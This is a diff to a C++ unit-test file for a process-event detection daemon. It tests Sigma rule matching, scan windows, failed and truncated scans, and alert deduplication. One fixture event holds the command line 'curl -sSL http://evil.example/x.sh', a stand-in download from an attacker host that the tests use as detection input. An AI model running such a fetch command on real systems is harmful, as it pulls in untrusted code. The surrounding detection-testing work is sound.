@@ -5,17 +5,22 @@
 #include <fmt/format.h>
 #include <gtest/gtest.h>
 
+#include <airssys/daemoneye/alert_pipeline.hpp>
+#include <airssys/daemoneye/config.hpp>
 #include <airssys/daemoneye/query_engine.hpp>
 #include <airssys/daemoneye/rule.hpp>
 #include <airssys/daemoneye/rule_runner.hpp>
 #include <airssys/daemoneye/store.hpp>
 #include <algorithm>
+#include <array>
+#include <chrono>
 #include <ctime>
 #include <set>
 #include <string>
 #include <tuple>
 #include <vector>
 
+#include "sigma_window.hpp"
 #include "store_test_util.hpp"
 
 namespace airssys::daemoneye {
@@ -55,8 +60,8 @@ class SigmaStore : public ::testing::Test {
     stop.kind = EventKind::stop;                                      // not a process creation
     events_.push_back(stop);
     auto old = event(241, "/usr/bin/curl", "curl -sSL http://evil.example/x.sh");
-    old.time = now_ - 3600;                                           // before the scan window
-    events_.push_back(old);
+    old.time = now_ - 3600;  // stored first, an hour old: before a first scan's window
+    events_.insert(events_.begin(), old);
     ASSERT_TRUE(store_->append_events(events_));
     // An event whose cwd and cmdline are unknown (NULL), as a kernel event
     // for a process no collection saw may be.
@@ -81,14 +86,21 @@ class SigmaStore : public ::testing::Test {
     events_.push_back(event(pid, std::move(path), std::move(cmdline), parent));
   }
 
-  // The pids the rule's query returns, run as the agent runs it.
+  // The pids the rule's query returns, run as the agent's first scan runs it.
   std::set<std::int64_t> matches(const std::string& detection) {
     auto rule = parse_rule("title: t\nid: t\nlogsource: {product: linux, category: process_creation}\ndetection:\n" +
                                detection,
                            "t.yml");
     EXPECT_TRUE(rule) << (rule ? "" : rule.error().message);
     if (!rule) return {};
-    auto r = engine_->run(rule->query);
+    auto window = sigma::ScanWindow::begin(*engine_, now_);
+    EXPECT_TRUE(window) << (window ? "" : window.error().message);
+    if (!window) return {};
+    auto range = window->range(*engine_, EventMarks{}, rule->id);
+    EXPECT_TRUE(range) << (range ? "" : range.error().message);
+    if (!range) return {};
+    const std::array params{QueryParam{":after", range->after}, QueryParam{":upto", range->upto}};
+    auto r = engine_->run(rule->query, params);
     EXPECT_TRUE(r) << (r ? "" : r.error().message) << "\n" << rule->query;
     std::set<std::int64_t> pids;
     if (!r) return pids;
@@ -159,7 +171,17 @@ TEST_F(SigmaStore, ConditionsTreatAMissingFieldAsNoMatch) {
             (Pids{209}));
 }
 
-TEST_F(SigmaStore, RunsAsARuleWithTheScanWindow) {
+// The pids of a run's candidates.
+std::set<std::int64_t> pids_of(const RuleRun& run) {
+  std::set<std::int64_t> out;
+  for (const auto& a : run.candidates) {
+    const auto at = a.row_json.find("\"pid\":");
+    if (at != std::string::npos) out.insert(std::stoll(a.row_json.substr(at + 6)));
+  }
+  return out;
+}
+
+TEST_F(SigmaStore, EachEventIsReadByOneScan) {
   auto rule = parse_rule("title: curl\nid: curl\nlevel: high\nlogsource: {product: linux, category: process_creation}\n"
                          "detection: {s: {Image|endswith: /curl}, condition: s}\n",
                          "curl.yml");
@@ -168,32 +190,106 @@ TEST_F(SigmaStore, RunsAsARuleWithTheScanWindow) {
   auto cols = engine_->columns(rule->query);
   ASSERT_TRUE(cols) << cols.error();
   EXPECT_NE(std::ranges::find(*cols, "start_time"), cols->end());
-  RuleRun run = run_rules({*rule}, *engine_, "host", now_);
+  EXPECT_NE(std::ranges::find(*cols, "event_id"), cols->end());
+
+  // A first scan reads the last two minutes: 201, 202; not the stop event
+  // 240 nor 241, stored before them an hour old.
+  EventMarks marks;
+  RuleRun run = run_rules({*rule}, *engine_, "host", now_, marks);
   ASSERT_TRUE(run.failures.empty()) << run.failures.front().message;
-  ASSERT_EQ(run.candidates.size(), 2u);  // 201, 202; not the stop event 240 nor the old event 241
+  EXPECT_EQ(pids_of(run), (Pids{201, 202}));
   EXPECT_EQ(run.candidates[0].severity, Severity::high);
-  EXPECT_NE(run.candidates[0].row_json.find("\"pid\":201"), std::string::npos) << run.candidates[0].row_json;
+  EXPECT_NE(run.candidates[0].row_json.find("\"event_id\":"), std::string::npos) << run.candidates[0].row_json;
+  // The next scan reads nothing again.
+  EXPECT_EQ(pids_of(run_rules({*rule}, *engine_, "host", now_, marks)), (Pids{}));
 
-  // After a scan collected at now-7200 the window reaches back to it: 241 (an hour ago) is seen.
-  ASSERT_TRUE(store_->record_scan({.scan_id = 1, .time = now_ - 7200}));
-  auto wide = engine_->run(rule->query);
-  ASSERT_TRUE(wide) << wide.error();
-  EXPECT_EQ(wide->rows.size(), 3u);
-  // A later scan at now-60 narrows it to the last two minutes again.
-  ASSERT_TRUE(store_->record_scan({.scan_id = 2, .time = now_ - 60}));
-  auto narrow = engine_->run(rule->query);
-  ASSERT_TRUE(narrow) << narrow.error();
-  EXPECT_EQ(narrow->rows.size(), 2u);
+  // A scan collected 150 s ago ran its rules; then an event of 200 s ago
+  // was stored (events wait to be written; a retried batch is later
+  // still). The old window (since the last scan's collection, at least two
+  // minutes) started at now-150 and never read it.
+  ASSERT_TRUE(store_->record_scan({.scan_id = 1, .time = now_ - 150}));
+  auto late = event(242, "/usr/bin/curl", "curl late");
+  late.time = now_ - 200;
+  ASSERT_TRUE(store_->append_events(std::vector{late, event(243, "/usr/bin/curl", "curl now")}));
+  EXPECT_EQ(pids_of(run_rules({*rule}, *engine_, "host", now_, marks)), (Pids{242, 243}));
+  EXPECT_EQ(pids_of(run_rules({*rule}, *engine_, "host", now_, marks)), (Pids{}));
 
-  // The window goes through the time index: the work does not grow with the table.
+  // The window is a range on the rowid, in id order without a sort: the
+  // work follows the new events, not the table.
   test::Peek peek(tmp_ / "d.db");
   auto plan = sqlite::prepare(peek.get(), "EXPLAIN QUERY PLAN " + rule->query);
   ASSERT_TRUE(plan) << plan.error().message;
   std::string details;
   while (::sqlite3_step(plan->get()) == SQLITE_ROW)
     details += reinterpret_cast<const char*>(::sqlite3_column_text(plan->get(), 3)) + std::string("\n");
-  EXPECT_NE(details.find("SEARCH process_events USING INDEX process_events_time (time>?)"), std::string::npos)
+  EXPECT_NE(details.find("SEARCH process_events USING INTEGER PRIMARY KEY (rowid>? AND rowid<?)"), std::string::npos)
       << details;
+  EXPECT_EQ(details.find("TEMP B-TREE"), std::string::npos) << details;
+}
+
+TEST_F(SigmaStore, AFailedScanDoesNotMoveTheWindow) {
+  auto rule = parse_rule("title: curl\nid: curl\nlogsource: {product: linux, category: process_creation}\n"
+                         "detection: {s: {Image|endswith: /curl}, condition: s}\n",
+                         "curl.yml");
+  ASSERT_TRUE(rule) << rule.error().message;
+  EventMarks marks;
+  ASSERT_EQ(pids_of(run_rules({*rule}, *engine_, "host", now_, marks)), (Pids{201, 202}));
+  // Enough new events that the query passes a zero time limit.
+  std::vector<ProcessEvent> more;
+  for (int i = 0; i < 2000; ++i) more.push_back(event(1000 + i, "/usr/bin/true", "true"));
+  more.push_back(event(244, "/usr/bin/curl", "curl during the failure"));
+  ASSERT_TRUE(store_->append_events(more));
+  auto slow = QueryEngine::open(tmp_ / "d.db", QueryLimits{.time = std::chrono::milliseconds(0)});
+  ASSERT_TRUE(slow) << slow.error();
+  RuleRun failed = run_rules({*rule}, **slow, "host", now_, marks);
+  ASSERT_EQ(failed.failures.size(), 1u);
+  EXPECT_TRUE(failed.candidates.empty());
+  // The next scan reads what the failed one could not.
+  EXPECT_EQ(pids_of(run_rules({*rule}, *engine_, "host", now_, marks)), (Pids{244}));
+}
+
+TEST_F(SigmaStore, ACutOffResultResumesAfterItsLastRow) {
+  auto rule = parse_rule("title: curl\nid: curl\nlogsource: {product: linux, category: process_creation}\n"
+                         "detection: {s: {Image|endswith: /curl}, condition: s}\n",
+                         "curl.yml");
+  ASSERT_TRUE(rule) << rule.error().message;
+  std::vector<ProcessEvent> more;
+  for (int i = 0; i < 5; ++i) more.push_back(event(300 + i, "/usr/bin/curl", "curl"));
+  ASSERT_TRUE(store_->append_events(more));
+  auto small = QueryEngine::open(tmp_ / "d.db", QueryLimits{.max_rows = 3});
+  ASSERT_TRUE(small) << small.error();
+  EventMarks marks;
+  RuleRun first = run_rules({*rule}, **small, "host", now_, marks);
+  EXPECT_EQ(pids_of(first), (Pids{201, 202, 300}));
+  EXPECT_TRUE(first.timings.at(0).truncated);
+  EXPECT_EQ(pids_of(run_rules({*rule}, **small, "host", now_, marks)), (Pids{301, 302, 303}));
+  EXPECT_EQ(pids_of(run_rules({*rule}, **small, "host", now_, marks)), (Pids{304}));
+}
+
+TEST_F(SigmaStore, WithNoDedupWindowAnEventIsRaisedOnce) {
+  // dedup_window 0: nothing is suppressed, so only the window keeps two
+  // scans from raising the same event (the old two-minute overlap did).
+  auto rule = parse_rule("title: curl\nid: curl\nlogsource: {product: linux, category: process_creation}\n"
+                         "detection: {s: {Image|endswith: /curl}, condition: s}\n",
+                         "curl.yml");
+  ASSERT_TRUE(rule) << rule.error().message;
+  AlertsConfig config;
+  config.dedup_window = std::chrono::seconds(0);
+  config.sinks.clear();
+  auto pipeline = AlertPipeline::create(config, nullptr, [](std::string_view) {});
+  ASSERT_TRUE(pipeline) << pipeline.error();
+  EventMarks marks;
+  std::vector<std::size_t> raised;
+  for (int scan = 0; scan < 3; ++scan) {
+    if (scan == 2) {
+      ASSERT_TRUE(store_->append_events(std::vector{event(245, "/usr/bin/curl", "curl")}));
+    }
+    RuleRun run = run_rules({*rule}, *engine_, "host", now_ + scan, marks);
+    auto outcome = (*pipeline)->submit(std::move(run.candidates), now_ + scan);
+    ASSERT_TRUE(outcome) << outcome.error();
+    raised.push_back(outcome->raised.size());
+  }
+  EXPECT_EQ(raised, (std::vector<std::size_t>{2, 0, 1}));
 }
 
 TEST_F(SigmaStore, ARegexAtItsLimitIsReportedNotSilenced) {
